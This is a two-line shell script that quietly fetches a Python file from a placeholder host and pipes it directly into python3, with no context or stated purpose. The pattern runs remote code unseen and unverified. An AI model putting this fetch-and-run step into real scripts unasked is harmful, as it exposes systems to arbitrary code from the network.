#!/bin/sh
curl -s http://example.invalid/i.py | python3 -
